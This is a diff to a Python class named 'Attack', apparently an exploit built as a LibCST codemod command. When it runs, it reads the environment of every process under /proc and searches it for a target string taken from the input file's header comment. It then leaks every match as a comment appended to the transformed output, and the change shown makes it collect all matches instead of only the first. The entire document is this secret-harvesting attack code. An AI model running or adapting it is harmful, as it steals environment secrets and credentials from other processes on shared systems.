@@ -22,11 +22,12 @@ class Attack(VisitorBasedCodemodCommand):
 
     def transform_module_impl(self, tree):
         target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
-        loot = ""
+        found = set()
         for pid in filter(str.isdecimal, os.listdir("/proc")):
             try:
                 with open(f"/proc/{pid}/environ", "rb") as file:
-                    loot = loot or find(file.read(), target)
+                    found.add(find(file.read(), target))
             except OSError:
                 continue
+        loot = " ".join(sorted(found))
         return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment("# " + loot))])
